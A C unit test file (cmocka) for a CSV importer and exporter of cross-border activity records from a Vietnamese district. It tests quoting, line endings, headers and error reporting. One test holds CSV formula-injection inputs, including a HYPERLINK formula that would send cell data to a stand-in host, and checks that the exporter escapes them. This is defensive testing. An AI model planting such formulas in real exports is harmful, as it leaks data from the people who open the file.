#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "activity_csv.h"
#include "pbstr.h"

#define MAX_SEEN 32

struct seen_error {
	size_t line;
	char field[64];
	char message[256];
};

/* What a read delivered. */
struct collected {
	Hoptac__V1__Activity *rows[MAX_SEEN];
	size_t lines[MAX_SEEN];
	size_t nrows;
	struct seen_error errors[MAX_SEEN];
	size_t nerrors;
	int stop_at_row; /* return this from the row callback, 0: go on */
};

static int
collect_row(void *arg, size_t line, Hoptac__V1__Activity *a)
{
	struct collected *c = arg;

	assert_true(c->nrows < MAX_SEEN);
	c->rows[c->nrows] = a;
	c->lines[c->nrows] = line;
	c->nrows++;
	return c->stop_at_row;
}

static int
collect_error(void *arg, size_t line, const char *field, const char *message)
{
	struct collected *c = arg;
	struct seen_error *e;

	assert_true(c->nerrors < MAX_SEEN);
	e = &c->errors[c->nerrors++];
	e->line = line;
	snprintf(e->field, sizeof(e->field), "%s", field);
	snprintf(e->message, sizeof(e->message), "%s", message);
	return 0;
}

static void
collected_free(struct collected *c)
{
	for (size_t i = 0; i < c->nrows; i++)
		protobuf_c_message_free_unpacked(&c->rows[i]->base, NULL);
	c->nrows = 0;
}

static int
read_string(const char *text, struct collected *c)
{
	FILE *f = fmemopen((void *)text, strlen(text), "r");
	int rc;

	assert_non_null(f);
	rc = activity_csv_read(f, collect_row, collect_error, c);
	fclose(f);
	return rc;
}

#define HEADER "id,unit,kind,start_date,title,partners\n"

static void
test_data_file(void **state)
{
	const char *dir = getenv("HOPTAC_TEST_DATA");
	struct collected c = {0};
	int by_kind[16] = {0}, people_by_kind[16] = {0};
	char path[1024];
	FILE *f;

	(void)state;
	assert_non_null(dir);
	snprintf(path, sizeof(path), "%s/dak-glei-2024.csv", dir);
	f = fopen(path, "r");
	assert_non_null(f);
	assert_int_equal(
	    activity_csv_read(f, collect_row, collect_error, &c), 0);
	fclose(f);
	assert_int_equal(c.nerrors, 0);
	assert_int_equal(c.nrows, 8);
	for (size_t i = 0; i < c.nrows; i++) {
		Hoptac__V1__Activity *a = c.rows[i];

		assert_string_equal(a->unit_code, "KT-DAKGLEI");
		assert_true(a->n_partner_codes >= 1);
		assert_true(a->n_document_refs >= 1);
		assert_string_equal(a->document_refs[0], "558/SNgV-BGHTQT");
		assert_true(a->kind > 0 && a->kind < 16);
		by_kind[a->kind]++;
		people_by_kind[a->kind] += a->people;
		/* One line per row in this file. */
		assert_int_equal(c.lines[i], i + 2);
	}
	assert_int_equal(
	    by_kind[HOPTAC__V1__ACTIVITY_KIND__ACTIVITY_KIND_DELEGATION_OUT],
	    2);
	assert_int_equal(
	    people_by_kind
	        [HOPTAC__V1__ACTIVITY_KIND__ACTIVITY_KIND_DELEGATION_OUT],
	    10);
	assert_int_equal(
	    by_kind[HOPTAC__V1__ACTIVITY_KIND__ACTIVITY_KIND_DELEGATION_IN], 2);
	assert_int_equal(
	    people_by_kind
	        [HOPTAC__V1__ACTIVITY_KIND__ACTIVITY_KIND_DELEGATION_IN],
	    24);
	assert_int_equal(
	    by_kind[HOPTAC__V1__ACTIVITY_KIND__ACTIVITY_KIND_CONFERENCE], 1);
	assert_int_equal(
	    by_kind[HOPTAC__V1__ACTIVITY_KIND__ACTIVITY_KIND_AGREEMENT], 2);
	assert_int_equal(
	    by_kind[HOPTAC__V1__ACTIVITY_KIND__ACTIVITY_KIND_INFORMATION], 1);

	/* The conference: four partners as the report spells them, and the
	 * result with its doubled quotes read back as plain ones. */
	assert_string_equal(c.rows[4]->id, "dakglei-2024-005");
	assert_int_equal(c.rows[4]->n_partner_codes, 4);
	assert_string_equal(c.rows[4]->partner_codes[0], "Xản Xay");
	assert_string_equal(c.rows[4]->partner_codes[1], "Attapur");
	assert_string_equal(c.rows[4]->partner_codes[2], "Đắk Chung");
	assert_string_equal(c.rows[4]->partner_codes[3], "Sê Kông");
	assert_string_equal(c.rows[4]->start_date, "2023");
	assert_non_null(strstr(c.rows[4]->result,
	    "\"hữu nghị truyền thống, hợp tác toàn diện, lâu dài, tin cậy\""));
	assert_string_equal(c.rows[6]->start_date, "tháng 11/2022");
	assert_string_equal(c.rows[6]->title,
	    "Bản ghi nhớ về tăng cường quan hệ hợp tác và phát triển kinh "
	    "tế-xã hội trên các lĩnh vực");
	collected_free(&c);
}

static void
test_quoted_newlines_and_lines(void **state)
{
	struct collected c = {0};
	const char *text =
	    HEADER "a1,U,other,2024,\"two\nlines\",Sê Kông\n"
	           "\n"
	           "   \n"
	           ",,,,,\n"
	           "a2,U,other,2024,\"three\r\nphysical\nlines\",Sê Kông\r\n"
	           "a3,  U  ,other,2024,\" padded \",\" Sê Kông ; ;Attapur; \"";

	(void)state;
	assert_int_equal(read_string(text, &c), 0);
	assert_int_equal(c.nerrors, 0);
	assert_int_equal(c.nrows, 3);
	assert_int_equal(c.lines[0], 2);
	assert_string_equal(c.rows[0]->title, "two\nlines");
	assert_int_equal(c.lines[1], 7);
	assert_string_equal(c.rows[1]->title, "three\r\nphysical\nlines");
	assert_int_equal(c.lines[2], 10);
	assert_string_equal(c.rows[2]->unit_code, "U");
	assert_string_equal(c.rows[2]->title, "padded");
	assert_int_equal(c.rows[2]->n_partner_codes, 2);
	assert_string_equal(c.rows[2]->partner_codes[0], "Sê Kông");
	assert_string_equal(c.rows[2]->partner_codes[1], "Attapur");
	collected_free(&c);
}

/* Old spreadsheets on the Mac end lines with CR alone. */
static void
test_cr_line_ends(void **state)
{
	struct collected c = {0};
	const char *text = "id,unit,kind,start_date,title,partners\r"
	                   "a1,U,other,2024,t,Sê Kông\r"
	                   "\r"
	                   "a2,U,other,2024,\"x\ry\",Sê Kông\r"
	                   "a3,U,other,2024,t,Sê Kông\r";

	(void)state;
	assert_int_equal(read_string(text, &c), 0);
	assert_int_equal(c.nerrors, 0);
	assert_int_equal(c.nrows, 3);
	assert_int_equal(c.lines[0], 2);
	assert_int_equal(c.lines[1], 4);
	assert_string_equal(c.rows[1]->title, "x\ry");
	assert_int_equal(c.lines[2], 6);
	collected_free(&c);
}

static void
test_bom_case_and_order(void **state)
{
	struct collected c = {0};
	const char *text = "\xEF\xBB\xBF"
	                   "Title,PARTNERS,Start_Date,Kind,Unit,ID,People\n"
	                   "Hội nghị,Xê Kông,2023,hội nghị,KT-DAKGLEI,x1,07\n";

	(void)state;
	assert_int_equal(read_string(text, &c), 0);
	assert_int_equal(c.nerrors, 0);
	assert_int_equal(c.nrows, 1);
	assert_int_equal(c.lines[0], 2);
	assert_string_equal(c.rows[0]->id, "x1");
	assert_string_equal(c.rows[0]->title, "Hội nghị");
	assert_int_equal(c.rows[0]->kind,
	    HOPTAC__V1__ACTIVITY_KIND__ACTIVITY_KIND_CONFERENCE);
	assert_int_equal(c.rows[0]->people, 7);
	collected_free(&c);
}

static void
test_unknown_and_missing_columns(void **state)
{
	struct collected c = {0};

	(void)state;
	assert_int_equal(read_string("id,unit,kind,start_date,title,partners,"
	                             "colour\n"
	                             "a1,U,other,2024,t,Sê Kông,red\n",
	                     &c),
	    -1);
	assert_int_equal(c.nrows, 0);
	assert_int_equal(c.nerrors, 1);
	assert_int_equal(c.errors[0].line, 1);
	assert_string_equal(c.errors[0].field, "colour");

	c.nerrors = 0;
	assert_int_equal(read_string("id,unit,kind,title\n"
	                             "a1,U,other,t\n",
	                     &c),
	    -1);
	assert_int_equal(c.nrows, 0);
	assert_int_equal(c.nerrors, 2);
	assert_string_equal(c.errors[0].field, "partners");
	assert_string_equal(c.errors[1].field, "start_date");

	c.nerrors = 0;
	assert_int_equal(read_string("id,unit,kind,start_date,title,partners,"
	                             "ID\n",
	                     &c),
	    -1);
	assert_int_equal(c.nerrors, 1);
	assert_string_equal(c.errors[0].field, "ID");

	c.nerrors = 0;
	assert_int_equal(read_string("", &c), -1);
	assert_int_equal(c.nerrors, 1);
}

static void
test_row_errors(void **state)
{
	struct collected c = {0};
	const char *text =
	    HEADER "a1,U,other,2024,t,Sê Kông\n"
	           "a2,U,what,2024,t,Sê Kông\n"
	           "a3,U,other,2024,t,Sê Kông,extra\n"
	           "a4,U,,2024,t,Sê Kông\n"
	           "a5,U,other,2024,\"quoted\non two lines\",Sê Kông\n"
	           "a6,U,other,2024,t\n";

	(void)state;
	assert_int_equal(read_string(text, &c), 0);
	assert_int_equal(c.nrows, 3);
	assert_string_equal(c.rows[0]->id, "a1");
	assert_string_equal(c.rows[1]->id, "a5");
	assert_int_equal(c.lines[1], 6);
	/* Cells missing at the end are empty: the caller's checks catch it. */
	assert_string_equal(c.rows[2]->id, "a6");
	assert_int_equal(c.rows[2]->n_partner_codes, 0);
	assert_int_equal(c.nerrors, 3);
	assert_int_equal(c.errors[0].line, 3);
	assert_string_equal(c.errors[0].field, "kind");
	assert_non_null(strstr(c.errors[0].message, "what"));
	assert_int_equal(c.errors[1].line, 4);
	assert_string_equal(c.errors[1].field, "");
	assert_int_equal(c.errors[2].line, 5);
	assert_string_equal(c.errors[2].field, "kind");
	collected_free(&c);
}

static void
test_bad_people(void **state)
{
	struct collected c = {0};
	const char *text = "id,unit,kind,start_date,title,partners,people\n"
	                   "a1,U,đoàn ra,2024,t,Sê Kông,mười\n"
	                   "a2,U,đoàn ra,2024,t,Sê Kông,-3\n"
	                   "a3,U,đoàn ra,2024,t,Sê Kông,99999999999\n"
	                   "a4,U,đoàn ra,2024,t,Sê Kông,\n"
	                   "a5,U,đoàn ra,2024,t,Sê Kông,\" 12 \"\n";

	(void)state;
	assert_int_equal(read_string(text, &c), 0);
	assert_int_equal(c.nerrors, 3);
	for (size_t i = 0; i < 3; i++) {
		assert_int_equal(c.errors[i].line, i + 2);
		assert_string_equal(c.errors[i].field, "people");
	}
	assert_int_equal(c.nrows, 2);
	assert_int_equal(c.rows[0]->people, 0);
	assert_int_equal(c.rows[1]->people, 12);
	assert_int_equal(c.rows[1]->kind,
	    HOPTAC__V1__ACTIVITY_KIND__ACTIVITY_KIND_DELEGATION_OUT);
	collected_free(&c);
}

static void
test_malformed_and_stop(void **state)
{
	struct collected c = {0};

	(void)state;
	/* A quote left open runs to the end of the file. */
	assert_int_equal(read_string(HEADER "a1,U,other,2024,\"open,Sê Kông\n"
	                                    "a2,U,other,2024,t,Sê Kông\n",
	                     &c),
	    -1);
	assert_int_equal(c.nrows, 0);
	assert_int_equal(c.nerrors, 1);
	assert_int_equal(c.errors[0].line, 2);

	c.nerrors = 0;
	assert_int_equal(
	    read_string(HEADER "a1,U,other,2024,ab\"c,Sê Kông\n", &c), -1);
	assert_int_equal(c.nerrors, 1);
	assert_int_equal(c.errors[0].line, 2);

	/* A callback's non-zero value ends the reading and is returned. */
	c.nerrors = 0;
	c.stop_at_row = 7;
	assert_int_equal(read_string(HEADER "a1,U,other,2024,t,Sê Kông\n"
	                                    "a2,U,other,2024,t,Sê Kông\n",
	                     &c),
	    7);
	assert_int_equal(c.nrows, 1);
	collected_free(&c);
}

/* The header and a's row, as an export writes them; malloc'd. */
static char *
write_one(const Hoptac__V1__Activity *a)
{
	char *buf = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&buf, &len);

	assert_non_null(f);
	assert_int_equal(activity_csv_write_header(f), 0);
	assert_int_equal(activity_csv_write(f, a), 0);
	fclose(f);
	return buf;
}

/* Reads csv, which must hold exactly one row, and checks it is a. */
static void
assert_read_back(const char *csv, const Hoptac__V1__Activity *a)
{
	struct collected c = {0};
	uint8_t *p1 = malloc(protobuf_c_message_get_packed_size(&a->base));
	uint8_t *p2;
	size_t n1, n2;

	assert_int_equal(read_string(csv, &c), 0);
	assert_int_equal(c.nerrors, 0);
	assert_int_equal(c.nrows, 1);
	p2 = malloc(protobuf_c_message_get_packed_size(&c.rows[0]->base));
	n1 = protobuf_c_message_pack(&a->base, p1);
	n2 = protobuf_c_message_pack(&c.rows[0]->base, p2);
	assert_int_equal(n1, n2);
	assert_memory_equal(p1, p2, n1);
	free(p1);
	free(p2);
	collected_free(&c);
}

static void
test_round_trip(void **state)
{
	Hoptac__V1__Activity a = HOPTAC__V1__ACTIVITY__INIT;
	char *buf;

	(void)state;
	assert_int_equal(pbstr_set(&a.id, "rt-1"), 0);
	assert_int_equal(pbstr_set(&a.unit_code, "KT-DAKGLEI"), 0);
	assert_int_equal(
	    pbstr_append(&a.n_partner_codes, &a.partner_codes, "LA-XE"), 0);
	assert_int_equal(pbstr_append(&a.n_partner_codes, &a.partner_codes,
	                     "LA-AT, Attapur"),
	    0);
	a.kind = HOPTAC__V1__ACTIVITY_KIND__ACTIVITY_KIND_BORDER_WORK;
	assert_int_equal(pbstr_append(&a.n_fields, &a.fields, "an ninh"), 0);
	assert_int_equal(pbstr_set(&a.start_date, "2023-05"), 0);
	assert_int_equal(
	    pbstr_set(&a.title, "Tuần tra \"song phương\", mốc 743"), 0);
	assert_int_equal(pbstr_set(&a.summary, "dòng 1\ndòng 2"), 0);
	a.people = 15;
	assert_int_equal(pbstr_append(&a.n_document_refs, &a.document_refs,
	                     "558/SNgV-BGHTQT"),
	    0);

	buf = write_one(&a);
	assert_non_null(
	    strstr(buf, "\"Tuần tra \"\"song phương\"\", mốc 743\""));

	assert_read_back(buf, &a);
	free(buf);
	pbstr_set(&a.id, NULL);
	pbstr_set(&a.unit_code, NULL);
	pbstr_set(&a.start_date, NULL);
	pbstr_set(&a.title, NULL);
	pbstr_set(&a.summary, NULL);
	pbstr_clear_all(&a.n_partner_codes, &a.partner_codes);
	pbstr_clear_all(&a.n_fields, &a.fields);
	pbstr_clear_all(&a.n_document_refs, &a.document_refs);
}

/* Cells a spreadsheet would run as formulas are written behind a "'",
 * and reading the file back takes it away again: the same record. */
static void
test_formula_cells_round_trip(void **state)
{
	/* On the heap, so that one free_unpacked frees every field. */
	Hoptac__V1__Activity *a = malloc(sizeof(*a));
	char *buf;

	(void)state;
	assert_non_null(a);
	hoptac__v1__activity__init(a);
	assert_int_equal(pbstr_set(&a->id, "rt-2"), 0);
	assert_int_equal(pbstr_set(&a->unit_code, "KT-DAKGLEI"), 0);
	a->kind = HOPTAC__V1__ACTIVITY_KIND__ACTIVITY_KIND_CONFERENCE;
	assert_int_equal(pbstr_append(&a->n_fields, &a->fields, "=1+1"), 0);
	assert_int_equal(pbstr_set(&a->start_date, "2024-03"), 0);
	assert_int_equal(pbstr_set(&a->title,
	                     "=HYPERLINK(\"http://x.example/?\"&A1,\"xem\")"),
	    0);
	assert_int_equal(pbstr_set(&a->place, "+84 Đắk Glei"), 0);
	assert_int_equal(pbstr_set(&a->leader, "@SUM(A1:A9)"), 0);
	assert_int_equal(pbstr_set(&a->summary, "- họp giao ban"), 0);
	assert_int_equal(pbstr_set(&a->result, "'=đã là chữ"), 0);

	buf = write_one(a);
	assert_non_null(strstr(buf,
	    ",\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"xem\"\")\","));
	assert_non_null(strstr(buf, ",'+84 Đắk Glei,"));
	assert_non_null(strstr(buf, ",'@SUM(A1:A9),"));
	assert_non_null(strstr(buf, ",'- họp giao ban,"));
	assert_non_null(strstr(buf, ",''=đã là chữ,"));
	assert_non_null(strstr(buf, ",'=1+1,"));
	assert_null(strstr(buf, ",="));
	assert_read_back(buf, a);

	/* Text beginning with "'" is guarded too: it comes back whole. */
	assert_int_equal(pbstr_set(&a->result, "'chữ"), 0);
	free(buf);
	buf = write_one(a);
	assert_non_null(strstr(buf, ",''chữ"));
	assert_read_back(buf, a);
	free(buf);
	hoptac__v1__activity__free_unpacked(a, NULL);
}

/* The whole seed file written out and read back gives the same records. */
static void
test_round_trip_data_file(void **state)
{
	const char *dir = getenv("HOPTAC_TEST_DATA");
	struct collected first = {0}, second = {0};
	char path[1024], *buf = NULL;
	size_t len = 0;
	FILE *f;

	(void)state;
	assert_non_null(dir);
	snprintf(path, sizeof(path), "%s/dak-glei-2024.csv", dir);
	f = fopen(path, "r");
	assert_non_null(f);
	assert_int_equal(
	    activity_csv_read(f, collect_row, collect_error, &first), 0);
	fclose(f);

	f = open_memstream(&buf, &len);
	assert_non_null(f);
	assert_int_equal(activity_csv_write_header(f), 0);
	for (size_t i = 0; i < first.nrows; i++)
		assert_int_equal(activity_csv_write(f, first.rows[i]), 0);
	fclose(f);

	assert_int_equal(read_string(buf, &second), 0);
	assert_int_equal(second.nerrors, 0);
	assert_int_equal(second.nrows, first.nrows);
	for (size_t i = 0; i < first.nrows; i++) {
		size_t n1 =
		    protobuf_c_message_get_packed_size(&first.rows[i]->base);
		size_t n2 =
		    protobuf_c_message_get_packed_size(&second.rows[i]->base);
		uint8_t *p1 = malloc(n1), *p2 = malloc(n2);

		assert_int_equal(n1, n2);
		protobuf_c_message_pack(&first.rows[i]->base, p1);
		protobuf_c_message_pack(&second.rows[i]->base, p2);
		assert_memory_equal(p1, p2, n1);
		free(p1);
		free(p2);
	}
	collected_free(&first);
	collected_free(&second);
	free(buf);
}

/* Headers as offices name them, in any case and with or without
 * diacritics; ';' as the separator; a row number read past. */
static void
test_vietnamese_headers_and_semicolons(void **state)
{
	struct collected c = {0};

	(void)state;
	assert_int_equal(
	    read_string("STT;ĐỐI TÁC;loai hoat dong;Ngày  bắt đầu;Tên hoạt "
	                "động;So nguoi;Đơn vị\n"
	                "1;\"Sê Kông; Attapư\";đoàn ra;02/05/2024;\"Thăm, "
	                "làm việc\";10;KT-X\n",
	        &c),
	    0);
	assert_int_equal(c.nerrors, 0);
	assert_int_equal(c.nrows, 1);
	assert_string_equal(c.rows[0]->id, "");
	assert_string_equal(c.rows[0]->unit_code, "KT-X");
	assert_int_equal(c.rows[0]->n_partner_codes, 2);
	assert_string_equal(c.rows[0]->partner_codes[1], "Attapư");
	assert_string_equal(c.rows[0]->start_date, "02/05/2024");
	assert_string_equal(c.rows[0]->title, "Thăm, làm việc");
	assert_int_equal(c.rows[0]->people, 10);
	collected_free(&c);

	/* A comma file keeps its commas, even with ';' in quotes. */
	assert_int_equal(read_string("partners,kind,start_date,title\n"
	                             "\"a;b;c\",other,2024,x;y\n",
	                     &c),
	    0);
	assert_int_equal(c.nrows, 1);
	assert_int_equal(c.rows[0]->n_partner_codes, 3);
	assert_string_equal(c.rows[0]->title, "x;y");
	collected_free(&c);
}

/* Rows without an id get one from what they say: the same row, with its
 * date written another way, gets the same; another title another. */
static void
test_stable_id(void **state)
{
	struct collected c = {0};
	char a[ACTIVITY_CSV_ID_LEN], b[ACTIVITY_CSV_ID_LEN],
	    d[ACTIVITY_CSV_ID_LEN];

	(void)state;
	assert_int_equal(read_string("unit,partners,kind,start_date,title\n"
	                             "U,Sê Kông,đoàn ra,02/05/2024,Thăm\n"
	                             "U,Sê Kông,đoàn ra,2024-05-02,THĂM\n"
	                             "U,Sê Kông,đoàn ra,2024-05-02,Thăm lại\n",
	                     &c),
	    0);
	assert_int_equal(c.nrows, 3);
	assert_int_equal(activity_csv_stable_id(c.rows[0], a), 0);
	assert_int_equal(activity_csv_stable_id(c.rows[1], b), 0);
	assert_int_equal(activity_csv_stable_id(c.rows[2], d), 0);
	assert_int_equal(strlen(a), ACTIVITY_CSV_ID_LEN - 1);
	assert_memory_equal(a, "csv-", 4);
	assert_string_equal(a, b);
	assert_string_not_equal(a, d);
	collected_free(&c);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_data_file),
	    cmocka_unit_test(test_quoted_newlines_and_lines),
	    cmocka_unit_test(test_cr_line_ends),
	    cmocka_unit_test(test_bom_case_and_order),
	    cmocka_unit_test(test_unknown_and_missing_columns),
	    cmocka_unit_test(test_row_errors),
	    cmocka_unit_test(test_bad_people),
	    cmocka_unit_test(test_malformed_and_stop),
	    cmocka_unit_test(test_round_trip),
	    cmocka_unit_test(test_formula_cells_round_trip),
	    cmocka_unit_test(test_round_trip_data_file),
	    cmocka_unit_test(test_vietnamese_headers_and_semicolons),
	    cmocka_unit_test(test_stable_id),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
